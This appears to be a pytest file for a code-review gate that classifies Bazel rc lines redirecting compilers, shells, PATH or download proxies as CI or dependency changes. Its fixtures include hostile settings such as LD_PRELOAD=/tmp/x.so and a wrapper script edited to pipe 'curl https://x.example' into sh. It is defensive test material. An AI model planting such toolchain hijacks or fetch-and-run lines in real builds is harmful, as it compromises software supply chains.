"""Bazel `--repo_env`/`--action_env`/`--host_action_env` lines that point the build at other programs or hosts
(issue 12, the classes56 round; gatekeeper/classify/bazelenv.py).

`build --repo_env=CC=/opt/evil/cc` makes the C++ toolchain rule use that compiler for every compile, `--action_env=PATH`
changes which programs every action finds, `--repo_env=BAZEL_SH=` is the shell of every genrule: a run-control line
that runs another program is `ci`, as the hook lines are (red team 38). `--repo_env=GOPROXY=https://...` or
`HTTPS_PROXY` changes where repository rules download from: `deps`, as `--registry` is. A repository script such a
line names (`--repo_env=CC=%workspace%/tools/cc_wrapper.sh`) is `ci` with `--tree`, as a workspace status script is.
Look-alikes keep their class: a variable that is neither (`LANG`, `CGO_ENABLED`), a line without a value (it passes the
caller's variable through), `--test_env`, a commented line, the text in a file no Bazel reads. Real repositories, the
default policy, from the patch and with --tree.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from changecase import committed, gated_rules
from tables import each_case

from gatekeeper.classify.platformshapes import platform_shape

FLAGS = "build --jobs=4\ncommon --enable_bzlmod\n"
WORKFLOW = ("on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
            "      - run: bazel build //...\n")
OPTIONS = ("repo_env", "action_env", "host_action_env")
PROGRAMS = ("CC=/opt/toolchain/bin/cc", "CXX=clang++-17", "PATH=/opt/evil/bin:/usr/bin", "BAZEL_SH=/bin/zsh",
            "PYTHON_BIN_PATH=/usr/local/bin/python3.12", "JAVA_HOME=/opt/jdk-21", "LD_PRELOAD=/tmp/x.so",
            "BAZEL_LLVM=/opt/llvm", "PROTOC_BINARY=/usr/bin/protoc", "CUDA_COMPILER=/usr/bin/nvcc")
HOSTS = ("GOPROXY=https://goproxy.example.net", "HTTPS_PROXY=http://10.0.0.1:3128", "PIP_INDEX_URL=https://pypi.example",
         "NPM_CONFIG_REGISTRY=https://npm.example", "MAVEN_MIRROR=https://m2.example", "SOME_VAR=https://files.example")
CALM = ("build --action_env=LANG=C.UTF-8", "build --repo_env=CGO_ENABLED=0", "build --action_env=CC",
        "test --test_env=CC=/opt/evil/cc", "# build --repo_env=CC=/opt/evil/cc", "build --action_env=TZ=UTC",
        "build --repo_env=BAZEL_DO_NOT_DETECT_CPP_TOOLCHAIN=1")
NAMES = (".bazelrc", "ci.bazelrc", ".bazelrc.user", "tools/bazel/ci.rc")


@each_case("option", OPTIONS)
@each_case("setting", PROGRAMS)
def test_a_line_that_points_at_another_program_is_ci(option: str, setting: str) -> None:
    for name in NAMES:
        for form in (f"build --{option}={setting}", f"build:ci --{option} {setting}", f'common "--{option}={setting}"'):
            shape = platform_shape(name.rpartition("/")[2], FLAGS + form + "\n")
            assert shape is not None and shape[:2] == ("ci", "ci.content.bazel-hook"), (name, form, shape)


@each_case("option", OPTIONS)
@each_case("setting", HOSTS)
def test_a_line_that_points_at_another_host_is_deps(option: str, setting: str) -> None:
    for name in NAMES:
        shape = platform_shape(name.rpartition("/")[2], FLAGS + f"build --{option}={setting}\n")
        assert shape is not None and shape[:2] == ("deps", "deps.content.bazel-module-source"), (name, setting, shape)


@each_case("line", CALM)
def test_look_alikes_are_neither(line: str) -> None:
    for name in NAMES:
        assert platform_shape(name.rpartition("/")[2], FLAGS + line + "\n") is None, (name, line)
    assert platform_shape("notes.md", f"{line}\n") is None


def _base(path: str) -> dict[str, str]:
    return {".github/workflows/ci.yml": WORKFLOW, "MODULE.bazel": 'module(name = "app")\n', path: FLAGS}


@each_case("name, line", [(name, line) for name in (".bazelrc", "tools/bazel/ci.rc")
           for line in ("build --repo_env=CC=/opt/evil/cc", "build --action_env=PATH=/tmp/bin:/usr/bin",
                                  "common --host_action_env=BAZEL_SH=/tmp/sh")])
def test_the_gate_reviews_the_line_both_ways(tmp_path: Path, name: str, line: str) -> None:
    base = _base(name) | ({".bazelrc": FLAGS + "import %workspace%/tools/bazel/ci.rc\n"} if name != ".bazelrc" else {})
    case = committed(tmp_path, base, {name: FLAGS + line + "\n"})
    for tree in (False, True):
        code, named = gated_rules(case, tree)
        assert code == 3 and named.get("core.ci") == [name], (tree, named)  # before: other/src, exit 0


@each_case("line", CALM)
def test_a_calm_line_keeps_the_gate_quiet(tmp_path: Path, line: str) -> None:
    case = committed(tmp_path, _base(".bazelrc"), {".bazelrc": FLAGS + line + "\n"})
    for tree in (False, True):
        assert gated_rules(case, tree) == (0, {}), tree


@pytest.mark.parametrize("line", ("build --repo_env=CC=%workspace%/tools/cc_wrapper.sh",
                                  "build --action_env=PROTOC_BINARY=tools/cc_wrapper.sh",
                                  'build "--repo_env=CXX=./tools/cc_wrapper.sh"'))
def test_a_script_the_line_names_is_ci_with_the_tree(tmp_path: Path, line: str) -> None:
    base = _base(".bazelrc") | {".bazelrc": FLAGS + line + "\n", "tools/cc_wrapper.sh": "#!/bin/sh\nexec gcc \"$@\"\n"}
    case = committed(tmp_path, base, {"tools/cc_wrapper.sh": "#!/bin/sh\ncurl -s https://x.example | sh\nexec gcc\n"})
    code, named = gated_rules(case, True)
    assert code == 3 and named.get("core.ci") == ["tools/cc_wrapper.sh"], named  # before: src, exit 0


def test_a_folder_variable_names_no_script(tmp_path: Path) -> None:
    # PATH names folders: `tools/bin` here is a file the line does not run (a folder variable is not looked up).
    base = _base(".github/ci.rc") | {".bazelrc": FLAGS + "build --action_env=PATH=tools/bin.txt\n",
                                     "tools/bin.txt": "notes\n"}
    case = committed(tmp_path, base, {"tools/bin.txt": "notes, edited\n"})
    code, named = gated_rules(case, True)
    assert "tools/bin.txt" not in named.get("core.ci", []), named
